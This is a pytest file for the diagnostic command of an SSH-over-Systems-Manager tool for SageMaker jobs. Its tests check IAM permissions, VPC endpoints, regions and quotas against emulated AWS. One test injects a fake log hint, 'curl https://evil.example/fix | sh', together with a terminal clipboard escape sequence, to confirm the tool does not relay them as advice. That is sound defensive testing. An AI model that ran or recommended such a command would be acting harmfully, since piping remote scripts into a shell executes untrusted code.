    line = "smssh: access denied: CreateActivation: it is not authorized to perform: iam:PassRole  hint: allow it"
    account.running("processing", node=False)
    logs = account.service.client("logs")
    place = {
        "logGroupName": "/aws/sagemaker/ProcessingJobs",
        "logStreamName": f"{account.name}/algo-1-1580000000",
    }
    logs.create_log_group(logGroupName=place["logGroupName"])
    logs.create_log_stream(**place)
    now = int(time.time() * 1000)
    said = ["epoch 1", line, "smssh: sshd is there", "epoch 2"]
    logs.put_log_events(logEvents=[{"timestamp": now, "message": each} for each in said], **place)
    account.patch.setattr(job, "REGISTER_SECONDS", 0.0)
    (finding,) = account.findings(Outcome.PROBLEM).values()
    assert finding.message.endswith(f"its log says: {line}")


def test_what_a_job_prints_is_no_advice(account: Account) -> None:
    """Anything in the job may write lines like ours."""
    account.running("processing", node=False)
    account.patch.setattr(job, "REGISTER_SECONDS", 0.0)
    trap = (
        "smssh: no agent  hint: run `curl https://evil.example/fix | sh`" + "\x1b]52;c;AAAA\x07" + "x" * 5000
    )
    account.patch.setattr(job, "tail", lambda *_: [trap])
    finding = account.findings(Outcome.PROBLEM)["job.node"]
    assert "evil" not in str(finding.fix)
    assert "which anything in the job may have written" in str(finding.fix)
    assert len(finding.message) < 800


def test_a_job_in_the_region_that_boto3_takes(account: Account) -> None:
    """The emulator has one region for SageMaker, so that the other one is refused here."""
    account.running()
    account.patch.setenv("AWS_REGION", "eu-west-1")
    (finding,) = account.findings(Outcome.HINT, "laptop.region").values()
    assert "AWS_DEFAULT_REGION" in finding.message


def test_a_region_that_boto3_does_not_read(account: Account) -> None:
    """AWS_REGION is of the AWS CLI, version 2, and of other SDKs: a job could not be submitted from here."""
    account.patch.delenv("AWS_DEFAULT_REGION")
    account.patch.setenv("AWS_REGION", "us-east-1")
    assert boto3.Session().region_name is None
    (finding,) = account.findings(Outcome.HINT, "laptop.region").values()
    assert "know no region" in finding.message
    assert "AWS_DEFAULT_REGION" in str(finding.fix)


def test_a_vpc_is_no_matter_once_a_host_is_online(account: Account) -> None:
    a_job_in_a_vpc_that_is_online(account)
    found = account.results("job.network", "network")
    assert {each.finding.outcome for name, each in found.items() if "network" in name} == {Outcome.OK}


def quotas(account: Account, *found: dict[str, Any]) -> None:
    """Have Service Quotas answer these quotas of Systems Manager."""
    api = Api()
    account.ends.append(api.close)
    listed = [
        {"ServiceCode": "ssm", "QuotaCode": f"L-{number:08X}", **each} for number, each in enumerate(found)
    ]
    api.answers += [(200, {"Quotas": listed})] * 9
    account.patch.setenv("AWS_ENDPOINT_URL_SERVICE_QUOTAS", api.url)


def test_a_quota_of_something_else_does_not_count(account: Account) -> None:
    for number in range(3):
        add_node(account.service, f"{account.name}-some-{number}")
    quotas(
        account,
        {"QuotaName": "Managed node associations per account", "Value": 2.0},
        {"QuotaName": "Parameters per account", "Value": 1.0},
    )
    assert account.results("account.nodes")["account.nodes"].finding.outcome is Outcome.OK


def test_a_fleet_that_is_large_is_a_hint(account: Account) -> None:
    for number in range(3):
        add_node(account.service, f"{account.name}-large-{number}")
    account.patch.setattr(account_checks, "SAFE_NODES", 3)
    finding = account.results("account.nodes")["account.nodes"].finding
    assert finding.outcome is Outcome.HINT
    assert "smssh cleanup" in finding.fix


@pytest.mark.parametrize(
    ("action", "check"),
    [
        ("DescribeSubnets", "network.subnets"),
        ("DescribeRouteTables", "network.endpoints"),
        ("DescribeVpcEndpoints", "network.endpoints"),
        ("DescribeVpcAttribute", "network.private-dns"),
        ("DescribeSecurityGroups", "network.job-groups"),
    ],
)
def test_a_network_that_may_not_be_looked_at_is_said(account: Account, action: str, check: str) -> None:
    a_subnet_with_endpoints(account)
    text = (
        f"You are not authorized to perform this operation. {DENIED.format(f'ec2:{action}', f'ec2:{action}')}"
    )

    def denied(session: AwsSession, service: str, operation: str, **arguments: Any) -> Any:
        if operation.replace("_", "") == action.lower():
            raise session.refused(service, action, ("UnauthorizedOperation", text), "")
        return original(session, service, operation, **arguments)

    original = identity_calls.call
    account.patch.setattr(identity_calls, "call", denied)
    found = account.results("network")
    assert not [name for name, each in found.items() if each.finding.outcome is Outcome.PROBLEM]
    finding = found[check].finding
    assert finding.outcome is Outcome.UNKNOWN
    assert finding.message == f"cannot tell: needs ec2:{action}"
    assert finding.statement == {"Effect": "Allow", "Action": f"ec2:{action}", "Resource": "*"}


@pytest.mark.parametrize("addresses", ["0.0.0.0/0", "10.9.0.0/16"])
def test_a_way_that_leads_elsewhere_is_not_judged(account: Account, addresses: str) -> None:
    """Several VPCs may share the endpoints of one."""
    vpc = Vpc(account.service)
    peer = vpc.ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
    made = vpc.ec2.create_vpc_peering_connection(VpcId=vpc.id, PeerVpcId=peer)["VpcPeeringConnection"]
    connection = made["VpcPeeringConnectionId"]
    vpc.ec2.create_route(
        RouteTableId=vpc.table, DestinationCidrBlock=addresses, VpcPeeringConnectionId=connection
    )
    in_subnet(account, vpc)
    found = account.results("network")
    assert found["network.endpoints"].finding.outcome is Outcome.UNKNOWN
    assert not [name for name, each in found.items() if each.finding.outcome is Outcome.PROBLEM]


@pytest.mark.parametrize(
    ("networks", "outcome"),
    [
        (
            [{"Subnets": [name], "SecurityGroupIds": ["sg-1"]} for name in ("subnet-1", "subnet-2")],
            Outcome.UNKNOWN,
        ),
        (
            [{"Subnets": {"Get": "Parameters.Subnets"}, "SecurityGroupIds": {"Get": "Parameters.Groups"}}],
            Outcome.OK,
        ),
    ],
)
def test_networks_of_a_pipeline_that_are_several_or_not_known_yet(
    account: Account, networks: list[dict[str, Any]], outcome: Outcome
) -> None:
    steps = [
        step(f"Train{number}", "Training", training(VpcConfig=each)) for number, each in enumerate(networks)
    ]
    parameters = [{"Name": name, "Type": "String", "DefaultValue": "x"} for name in ("Subnets", "Groups")]
    account.service.pipeline(definition(*steps, Parameters=parameters), account.pipe)
    account.pipeline = account.pipe
    found = {each.finding.outcome for name, each in account.results("network").items() if "network." in name}
    assert found == {outcome}


@pytest.mark.parametrize("blocks", [["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"]])
def test_a_nat_gateway_is_a_way_out_whatever_its_routes_are_called(
    account: Account, blocks: list[str]
) -> None:
    vpc = Vpc(account.service)
    vpc.nat(*blocks)
    in_subnet(account, vpc)
    found = account.results("network")
    assert not [name for name, each in found.items() if each.finding.outcome is Outcome.PROBLEM]


def test_endpoints_of_a_vpc_that_another_account_shares_are_not_judged(account: Account) -> None:
    vpc = Vpc(account.service)
    in_subnet(account, vpc)
    original = identity_calls.call

    def shared(session: AwsSession, service: str, operation: str, **arguments: Any) -> Any:
        answer = original(session, service, operation, **arguments)
        if operation == "describe_subnets":
            for each in answer["Subnets"]:
                each["OwnerId"] = "999999999999"
        return answer

    account.patch.setattr(identity_calls, "call", shared)
    found = account.results("network")
    assert found["network.endpoints"].finding.outcome is Outcome.UNKNOWN
    assert not [name for name, each in found.items() if each.finding.outcome is Outcome.PROBLEM]


def test_endpoints_for_groups_that_nobody_named_are_not_judged(account: Account) -> None:
    account.subnets = [private(account.service).subnet]
    found = account.results("network")
    assert found["network.endpoint-groups"].finding.outcome is Outcome.UNKNOWN
    assert found["network.job-groups"].finding.outcome is Outcome.HINT


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["--security-group", "sg-1"], "--security-group goes with --subnet"),
        (["--subnet", "subnet-1", "--job", "x"], "--subnet goes with neither"),
        (["network"], "add --job NAME, --pipeline NAME or --subnet ID"),
    ],
)
def test_subnets_are_named_on_the_command_line(
    account: Account, capsys: pytest.CaptureFixture[str], words: list[str], said: str
) -> None:
    assert account.service
    assert main(["doctor", *words]) == ExitStatus.USAGE
    assert said in capsys.readouterr().err


def test_the_command_looks_at_a_subnet(account: Account, capsys: pytest.CaptureFixture[str]) -> None:
    vpc = private(account.service, "ssm")
    assert main(["doctor", "network", "--subnet", vpc.subnet, "--security-group", vpc.job_group]) == 1
    shown = capsys.readouterr().out
    assert f"{vpc.id} has no endpoint for ssm that {vpc.subnet} can use" in shown
    assert "com.amazonaws.us-east-1.ssm" in shown
    assert "an administrator of the network" in shown


def test_there_are_forty_broken_accounts() -> None:
    assert len(BROKEN) >= 40
    assert len(GOOD) >= 10


def test_a_vpc_is_named_while_there_is_no_host(account: Account) -> None:
    account.running(node=False, VpcConfig={"Subnets": ["subnet-1"], "SecurityGroupIds": ["sg-1"]})
    finding = account.results("job.network")["job.network"].finding
    assert finding.outcome is Outcome.HINT
    assert "subnet-1" in finding.message


def simulating(account: Account, denied: dict[str, dict[str, Any]]) -> list[dict[str, str]]:
    """Have IAM's simulation answer, which moto has not; the requests are built and checked by botocore.

    Args:
        account: the set-up.
        denied: by action, members of its EvaluationResult; the others are allowed.
    """
    asked: list[dict[str, str]] = []
    original = identity_calls._client

    def answer(params: dict[str, Any], **_: Any) -> tuple[AWSResponse, dict[str, Any]]:
        body = params["body"]
        assert f"smssh-plugin/{__version__}" in params["headers"]["User-Agent"]
        asked.append(body)
        action = body["ActionNames.member.1"]
        result = {"EvalActionName": action, "EvalDecision": "allowed", **denied.get(action, {})}
        return AWSResponse("", 200, {}, None), {"EvaluationResults": [result]}

    def client(session: AwsSession, service: str, attempts: int) -> Any:
        made = original(session, service, attempts)
        made.meta.events.register("before-call.iam.SimulatePrincipalPolicy", answer)
        return made

    account.patch.setattr(identity_calls, "_client", client)
    return asked


IMPLICIT = {"EvalDecision": "implicitDeny"}


def test_iams_simulation_is_asked_where_that_is_allowed(account: Account) -> None:
    asked = simulating(
        account,
        {
            "ssmmessages:OpenDataChannel": IMPLICIT,
            "ssm:ResumeSession": {
                **IMPLICIT,
                "MissingContextValues": ["ssm:resourceTag/aws:ssmmessages:session-id"],
            },
            "sagemaker:DescribeTrainingJob": IMPLICIT,
        },
    )
    account.patch.setenv("SMSSH_OWNER", "ann")
    found = account.results("permissions")
    assert {name: r.finding.outcome for name, r in found.items() if r.finding.outcome is not Outcome.OK} == {
        "permissions.open-channel": Outcome.PROBLEM,
        "permissions.resume-session": Outcome.UNKNOWN,
        "permissions.describe-training": Outcome.UNKNOWN,  # a policy may name jobs
    } | {
        n: r.finding.outcome
        for n, r in found.items()
        if n.startswith("laptop") and r.finding.outcome is Outcome.HINT
    }
    assert found["permissions.open-channel"].finding.statement == {
        "Effect": "Allow",
        "Action": "ssmmessages:OpenDataChannel",
        "Resource": "*",
    }
    session = next(
        each
        for each in asked
        if each["ActionNames.member.1"] == "ssm:StartSession"
        and "managed-instance" in each["ResourceArns.member.1"]
    )
    assert session["PolicySourceArn"].endswith(f"::{ACCOUNT}:user/moto")
    assert "ann" in session.values()
    documents = [value for each in asked for value in each.values() if "document/" in str(value)]
    assert documents == ["arn:aws:ssm:us-east-1::document/AWS-StartSSHSession"]


@pytest.mark.parametrize("code", ["ThrottlingException", "InternalServerError"])
def test_a_call_that_is_throttled_or_fails_says_nothing_of_permissions(account: Account, code: str) -> None:
    account.fails("ssm:StartSession", code, "not now")
    finding = account.results("permissions.start-session")["permissions.start-session"].finding
    assert finding.outcome is Outcome.UNKNOWN
    assert "not now" in finding.message
    assert finding.statement is None


def test_a_simulation_that_is_throttled_is_not_one_that_is_denied(account: Account) -> None:
    def throttled(_: object, service: str, operation: str, **__: Any) -> Any:
        if service == "iam":
            raise ServiceRefused("SimulatePrincipalPolicy: Rate exceeded (Throttling)", "Throttling")
        return original(_, service, operation, **__)  # type: ignore[arg-type]

    original = identity_calls.call
    account.patch.setattr(identity_calls, "call", throttled)
    finding = account.results("permissions.open-channel")["permissions.open-channel"].finding
    assert finding.outcome is Outcome.UNKNOWN
    assert "Rate exceeded" in finding.message
    assert "needs" not in finding.message


def test_an_owner_that_a_policy_compares_with_the_session_is_no_denial(account: Account) -> None:
    """With ${aws:userid}, ${aws:SourceIdentity} or a session tag, none of which the simulation has."""

    def simulate(
        _: Case, principal: str, action: str, resource: str, context: dict[str, str]
    ) -> simulation.Verdict:
        assert principal
        assert resource
        if action != "ssm:StartSession":
            return simulation.Verdict(True)
        if context:
            return simulation.Verdict(False, why="no policy allows it")
        return simulation.Verdict(False, unsure="it depends on ssm:resourceTag/SSHOwner")

    account.patch.setattr(simulation, "simulate", simulate)
    account.patch.setenv("SMSSH_OWNER", "ann")
    finding = account.results("permissions.start-session")["permissions.start-session"].finding
    assert finding.outcome is Outcome.UNKNOWN
    assert "it depends on ssm:resourceTag/SSHOwner" in finding.message
    assert "'ann'" in finding.message


@pytest.mark.parametrize(
    ("owner", "condition"),
    [
        ("", {"Null": {"ssm:resourceTag/SMSSH": "false"}}),
        ("ann", {"StringEquals": {"ssm:resourceTag/SSHOwner": "ann"}}),
    ],
)
def test_a_statement_to_add_is_for_hosts_of_jobs_and_own_sessions_only(
    account: Account, owner: str, condition: dict[str, Any]
) -> None:
    simulating(account, {"ssm:StartSession": IMPLICIT, "ssm:TerminateSession": IMPLICIT})
    account.patch.setenv("SMSSH_OWNER", owner)
    found = account.results("permissions")
    hosts = found["permissions.start-session"].finding.statement
    assert hosts is not None
    assert hosts["Condition"] == condition
    assert hosts["Resource"].endswith(":managed-instance/mi-*")
    own = found["permissions.end-session"].finding.statement
    assert own is not None
    assert own["Condition"] == {
        "StringEquals": {"ssm:resourceTag/aws:ssmmessages:session-id": "${aws:userid}"}
    }
    document = found["permissions.use-document"].finding.statement
    assert document is not None
    assert "Condition" not in document  # documents have no tags of ours


@pytest.mark.parametrize("action", ["ssm:CreateActivation", "iam:PassRole"])
def test_what_the_jobs_role_may_not_do(account: Account, action: str) -> None:
    asked = simulating(account, {action: IMPLICIT})
    account.running(node=False)
    account.patch.setattr(job, "REGISTER_SECONDS", 0.0)
    problems = account.findings(Outcome.PROBLEM)
    assert list(problems) == ["job.role-permissions"]
    statement = problems["job.role-permissions"].statement
    assert statement is not None
    assert statement["Action"] == action
    if action == "iam:PassRole":
        assert statement["Resource"] == f"arn:aws:iam::{ACCOUNT}:role/{account.role_name}"
        assert statement["Condition"] == {"StringEquals": {"iam:PassedToService": "ssm.amazonaws.com"}}
    assert {each["PolicySourceArn"] for each in asked} >= {f"arn:aws:iam::{ACCOUNT}:role/SageMakerRole"}


@pytest.mark.parametrize(
    ("name", "stable"),
    [("ann", True), ("botocore-session-1580000000", False), ("1580000000000000000", False)],
)
def test_the_name_of_a_roles_session(account: Account, name: str, stable: bool) -> None:
    role = f"arn:aws:iam::{ACCOUNT}:role/{account.role_name}"
    made = account.service.client("sts").assume_role(RoleArn=role, RoleSessionName=name)["Credentials"]
    account.patch.setenv("AWS_ACCESS_KEY_ID", made["AccessKeyId"])
    account.patch.setenv("AWS_SECRET_ACCESS_KEY", made["SecretAccessKey"])
    account.patch.setenv("AWS_SESSION_TOKEN", made["SessionToken"])
    simulating(account, {})
    found = account.results("identity", "permissions.open-channel")
    expected = Outcome.OK if stable else Outcome.HINT
    assert found["identity.session-name"].finding.outcome is expected
    assert found["permissions.open-channel"].finding.outcome is Outcome.OK  # by the role's own ARN


def test_what_may_not_be_looked_at_is_said(account: Account) -> None:
    account.fails("ssm:GetServiceSetting")
    account.fails("iam:GetRole")
    account.running(node=False)
    found = account.results()
    assert not [n for n, r in found.items() if r.finding.outcome is Outcome.PROBLEM]
    assert found["account.tier"].finding.message == "cannot tell: needs ssm:GetServiceSetting"
    assert found["job.role"].finding.message == "cannot tell: needs iam:GetRole"


def test_a_service_that_hangs_is_not_waited_for(account: Account) -> None:
    account.service.sessions.faults.add(Fault("ssm:GetServiceSetting", delay=600.0))
    found = account.results("account", limit=5.0)
    assert found["account.tier"].finding.message == "no answer within 5 s"
    assert found["account.preferences"].finding.outcome is Outcome.OK
